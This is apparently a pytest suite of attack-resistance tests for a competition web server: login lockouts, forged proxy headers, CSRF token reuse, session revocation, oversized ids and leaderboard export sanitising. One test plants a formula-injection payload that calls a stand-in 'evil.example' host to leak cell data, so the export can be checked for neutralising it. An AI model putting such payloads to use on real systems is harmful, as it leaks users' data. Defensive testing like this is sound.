"""Accounts and sessions under attack, on real servers: `scrimmage serve` processes and the app on loopback.

Bursts of wrong passwords split across two server processes, forged X-Forwarded-For headers,
racing first sign-ups, CSRF tokens carried over from another session, stolen sessions after a
password change, ids past 64 bits, team names posing as reference rows, spreadsheet formulas
in leaderboard exports. Each attack fails with the message pinned here.
"""

from __future__ import annotations

import concurrent.futures
import html
import io
import os
import re
import socket
import subprocess
import sys
import time
import zipfile
from contextlib import contextmanager

import httpx
import pytest

from webutil import app, cheap_hashing, world  # noqa: F401 - fixtures (cheap_hashing: autouse)
from webutil import PASSWORD, client, live_server, post, text_of, token_for, write_predictions
from scrimmage import accounts as acc
from scrimmage.web.deps import CSRF_MESSAGE

LOCKED_NAME = "too many failed logins for 'ada': wait 15 minutes and try again"
LOCKED_ADDRESS = "too many failed logins from your address: wait 15 minutes and try again"


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@contextmanager
def served(*args: str):
    """A real `scrimmage serve` process on the test's store and a free port; yields its URL."""
    port = free_port()
    proc = subprocess.Popen([sys.executable, "-m", "scrimmage", "serve", "--port", str(port), *args],
                            env=dict(os.environ), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                httpx.get(f"{url}/login", timeout=2)
                break
            except httpx.TransportError:
                if proc.poll() is not None or time.monotonic() > deadline:
                    raise RuntimeError(f"scrimmage serve did not start: {proc.stderr.read().decode()[-2000:]}")
                time.sleep(0.1)
        yield url
    finally:
        proc.terminate()
        try:
            proc.wait(20)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(20)


def login(url: str, name: str, password: str, headers: dict | None = None) -> httpx.Response:
    """One browser's sign-in: fetch the form (CSRF cookie), post it."""
    with httpx.Client(base_url=url, timeout=120) as c:
        c.get("/login")
        return c.post("/login", data={"name": name, "password": password, "csrf_token": c.cookies["scrimmage_csrf"]},
                      headers=headers or {})


def message(r: httpx.Response) -> str:
    found = re.search(r'<strong class="err-title">(.*?)</strong>', r.text, re.S)
    return html.unescape(found.group(1)).strip() if found else ""


def test_a_burst_of_wrong_passwords_across_two_processes_gets_exactly_the_limit(db_url):
    from scrimmage.arena import Arena

    Arena().accounts.sign_up("ada", PASSWORD)
    tries = 3 * acc.MAX_FAILURES_PER_NAME
    with served() as one, served() as two:
        with concurrent.futures.ThreadPoolExecutor(tries) as pool:
            answers = list(pool.map(lambda i: login((one, two)[i % 2], "ada", f"wrong guess {i}"), range(tries)))
        right = login(one, "ada", PASSWORD)
    codes = sorted(r.status_code for r in answers)
    assert codes == [401] * acc.MAX_FAILURES_PER_NAME + [429] * (tries - acc.MAX_FAILURES_PER_NAME)
    assert {message(r) for r in answers if r.status_code == 429} == {LOCKED_NAME}
    assert (right.status_code, message(right)) == (429, LOCKED_NAME)  # even the right password waits


def test_x_forwarded_for_is_believed_only_from_a_configured_proxy(db_url):
    n = acc.MAX_FAILURES_PER_ADDRESS
    with served() as url:  # no proxy configured: a forged header changes nothing
        answers = [login(url, f"guess{i}", "nope nope", {"X-Forwarded-For": f"203.0.113.{i}"}) for i in range(n + 1)]
    assert [r.status_code for r in answers] == [401] * n + [429]
    assert message(answers[-1]) == LOCKED_ADDRESS
    with served("--trusted-proxy", "127.0.0.1") as url:  # behind a proxy: each forwarded client counts alone
        # the client is the rightmost address the trusted proxy forwarded
        forwarded = login(url, "other", "nope nope", {"X-Forwarded-For": "198.51.100.7, 203.0.113.200"})
        direct = login(url, "other2", "nope nope")  # the proxy's own address is the one that hit the limit
    assert (forwarded.status_code, message(forwarded)) == (401, "wrong user name or password")
    assert (direct.status_code, message(direct)) == (429, LOCKED_ADDRESS)


def test_the_scheme_a_trusted_proxy_forwarded_is_the_one_links_use():
    """Behind nginx with TLS the server is reached over http; the links it writes must say https."""
    https = {"X-Forwarded-Proto": "https"}
    for args, scheme in [((), "http"), (("--trusted-proxy", "127.0.0.1"), "https")]:
        with served(*args) as url, httpx.Client(base_url=url, timeout=120) as c:
            c.get("/login")
            r = c.post("/signup", data={"name": f"pia{len(args)}", "password": PASSWORD,
                                        "csrf_token": c.cookies["scrimmage_csrf"]})
            assert r.status_code == 303, r.text
            page = c.get("/account", headers=https).text
        host = url.split("://", 1)[1]
        assert f"scrimmage config set server {scheme}://{host}/" in page


def test_a_bad_trusted_proxy_setting_is_refused_clearly(home, monkeypatch):
    from scrimmage.config import Settings
    from scrimmage.errors import ConfigError
    from scrimmage.web import create_app

    monkeypatch.setenv("SCRIMMAGE_TRUSTED_PROXIES", "127.0.0.1, proxy.local")
    with pytest.raises(ConfigError) as info:
        create_app(Settings.load())
    assert info.value.message == ("trusted_proxies must list IP addresses or networks (e.g. 127.0.0.1, 10.0.0.0/8); "
                                  "not 'proxy.local'")


def test_racing_first_sign_ups_make_exactly_one_admin(app):
    names = [f"racer{i}" for i in range(12)]
    with live_server(app) as url:
        def sign_up(name: str) -> int:
            with httpx.Client(base_url=url, timeout=120) as c:
                c.get("/signup")
                return c.post("/signup", data={"name": name, "password": PASSWORD,
                                               "csrf_token": c.cookies["scrimmage_csrf"]}).status_code

        with concurrent.futures.ThreadPoolExecutor(len(names)) as pool:
            assert list(pool.map(sign_up, names)) == [303] * len(names)
    roles = [u.role for u in app.state.arena.accounts.users()]
    assert sorted(roles) == ["admin"] + ["participant"] * (len(names) - 1)


def test_a_csrf_token_from_another_session_is_refused(world, app):
    victim, attacker = world["pat"], world["quin"]
    attacker_token = attacker.cookies["scrimmage_csrf"]
    with live_server(app) as url:
        session = victim.cookies["scrimmage_session"]
        # the attacker plants their own (valid, for them) token in the victim's browser and posts with it
        with httpx.Client(base_url=url, cookies={"scrimmage_session": session, "scrimmage_csrf": attacker_token}) as c:
            r = c.post("/c/tiny/team/rename", data={"name": "pwned", "csrf_token": attacker_token})
        assert r.status_code == 403 and message(r) == CSRF_MESSAGE
        # the victim's own page carries the token of their session, which works
        page = victim.get("/c/tiny/team").text
        own = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
        assert own != attacker_token
        with httpx.Client(base_url=url, cookies={"scrimmage_session": session}) as c:
            assert c.post("/c/tiny/team/rename", data={"name": "pats", "csrf_token": own}).status_code == 303


def test_log_out_everywhere_and_a_password_change_end_other_sessions(world, app):
    phone, laptop = world["pat"], signed_in_again(app, "pat")
    with live_server(app) as url:
        def alive(c) -> bool:  # the session ``c`` was given still opens the account page (from anywhere)
            with httpx.Client(base_url=url, cookies={"scrimmage_session": sessions[id(c)]}) as h:
                return h.get("/account").status_code == 200

        sessions = {id(c): c.cookies["scrimmage_session"] for c in (phone, laptop)}

        assert alive(phone) and alive(laptop)
        assert "signed in on 2 browsers" in text_of(phone.get("/account").text)
        short = post(phone, "/account/password", {"current": PASSWORD, "new": "short"})
        assert (short.status_code, message(short)) == (400, "new password too short: use at least 8 characters")
        wrong = post(phone, "/account/password", {"current": "not it at all", "new": "a new secret pass"})
        assert (wrong.status_code, message(wrong)) == (401, "the current password is wrong; nothing was changed")
        r = post(phone, "/account/password", {"current": PASSWORD, "new": "a new secret pass"})
        assert r.status_code == 303 and "1 other session ended" in r.headers["location"].replace("%20", " ")
        assert alive(phone) and not alive(laptop)
        assert login(url, "pat", PASSWORD).status_code == 401 and login(url, "pat", "a new secret pass").status_code == 303
        laptop = signed_in_again(app, "pat")
        sessions[id(laptop)] = laptop.cookies["scrimmage_session"]
        r = post(phone, "/account/sessions/end")
        assert r.status_code == 303 and r.headers["location"].startswith("/login")
        assert not alive(phone) and not alive(laptop)


def signed_in_again(app, name: str):
    c = client(app)
    c.cookies.set("scrimmage_session", app.state.arena.accounts.create_session(name))
    c.get("/account")
    return c


def test_tokens_list_their_last_use_on_the_page_and_the_api(world, app):
    headers = token_for(app, "pat")
    with live_server(app) as url:
        before = httpx.get(f"{url}/api/me/tokens", headers=headers).json()
        assert [t["label"] for t in before] == ["test"] and before[0]["last_used_at"] is not None
        assert before[0]["prefix"] == headers["Authorization"].split()[1][:8]
        assert httpx.post(f"{url}/api/me/sessions/end", headers=headers).json() == {"ended": 1}
        assert world["pat"].get("/account").status_code == 303  # the browser session is over
        gone = httpx.delete(f"{url}/api/me/tokens/{before[0]['id']}", headers=headers)
        assert gone.status_code == 204
        after = httpx.get(f"{url}/api/me/tokens", headers=headers)
        assert (after.status_code, after.json()["error"]) == (
            401, "the API token is not valid (revoked or mistyped); create a new one on your account page")


def int_routes() -> list[tuple[str, str]]:
    """Every route of the app with an integer in its path (new ones are picked up by themselves)."""
    from scrimmage.web.app import routers

    out = []
    for router in routers():
        for route in router.routes:
            dependant = getattr(route, "dependant", None)
            if dependant and any(p.field_info.annotation is int for p in dependant.path_params):
                out.extend((m, route.path) for m in sorted(route.methods - {"HEAD"}))
    return out


def test_every_integer_path_takes_ids_past_64_bits_as_not_found(world, app):
    routes = int_routes()
    assert len(routes) >= 10  # six page routes, the API's select and token routes
    huge = "122738435413290260627456"
    headers = token_for(app, "pat")
    with live_server(app) as url:
        for method, path in routes:
            filled = re.sub(r"\{(\w+)\}", lambda m: "tiny" if m.group(1) == "ref" else huge, path)
            for bad in (filled, filled.replace(huge, "-1"), filled.replace(huge, "x")):
                if path.startswith("/api/"):
                    r = httpx.request(method, url + bad, headers=headers)
                    said = r.json()["error"]
                elif method == "GET":
                    r = world["pat"].get(bad)
                    said = message(r)
                else:
                    r = post(world["pat"], bad)
                    said = message(r)
                assert (r.status_code, said) == (404, f"no page at {bad}"), f"{method} {bad}"


@pytest.mark.parametrize("name", ["reference: strong model", "Reference - simple model", "REFERENCE", "strong model",
                                  "Constant Baseline!", "ref: gold"])
def test_a_team_name_posing_as_a_reference_row_is_refused(world, app, name):
    r = post(world["pat"], "/c/tiny/team/rename", {"name": name})
    assert r.status_code == 409
    assert message(r).startswith(f"the name {name!r} reads like a reference row of the leaderboard (reference: ")
    assert message(r).endswith("choose a name that does not start with \"reference\" or copy a reference's label")


def test_a_user_name_posing_as_a_reference_row_is_refused(app):
    c = client(app)
    r = post(c, "/signup", {"name": "reference", "password": PASSWORD})
    assert r.status_code == 409 and message(r) == (
        "the name 'reference' reads like a reference row of the leaderboard (reference: ...); choose a name "
        "that does not start with \"reference\" or copy a reference's label")


def test_leaderboard_exports_make_spreadsheet_formulas_inert(world, app, tmp_path, capsys):
    from scrimmage.cli import main

    a = app.state.arena
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    a.teams.rename("tiny", "pat", evil)
    a.teams.rename("tiny", "quin", "@SUM(1+1)")
    a.submit("tiny", write_predictions(tmp_path / "p.csv", world["folder"], 0.5), "", user="pat")
    a.submit("tiny", write_predictions(tmp_path / "q.csv", world["folder"], 0.4), "", user="quin")
    with live_server(app) as url:
        r = httpx.post(f"{url}/api/v1/competitions.CompetitionApiService/DownloadLeaderboard",
                       json={"competitionName": "tiny"}, headers=token_for(app, "pat"), follow_redirects=True)
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.content)) as zf:
        text = zf.read(zf.namelist()[0]).decode()
    assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text and ",=" not in text and ",@" not in text
    with pytest.raises(SystemExit):
        main(["competitions", "leaderboard", "tiny", "--csv"])
    out = capsys.readouterr().out
    assert "'=HYPERLINK(" in out and "'@SUM(1+1)" in out and ",=" not in out and ",@" not in out
